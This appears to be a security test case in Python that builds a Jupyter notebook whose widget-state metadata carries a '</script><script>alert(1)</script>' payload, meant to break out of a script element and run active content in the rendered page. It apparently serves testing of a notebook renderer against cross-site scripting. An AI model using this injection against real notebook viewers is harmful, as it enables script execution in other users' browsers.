"""The notebook contains widget state that closes the surrounding script element.

Success: active content in a page.
"""


def attack(submission):
    evil = "</script><script>alert(1)</script>"
    state = {"a" * 32: {"model_name": evil, "model_module": "x", "model_module_version": "1",
                        "state": {"value": evil}}}  # fmt: skip
    submission.notebook.metadata["widgets"] = {
        "application/vnd.jupyter.widget-state+json": {
            "state": state, "version_major": 2, "version_minor": 0},
    }  # fmt: skip
    submission.add("""
        from IPython.display import display
        view = {"model_id": "a" * 32, "version_major": 2, "version_minor": 0}
        display({"application/vnd.jupyter.widget-view+json": view, "text/plain": "x"}, raw=True)
    """)
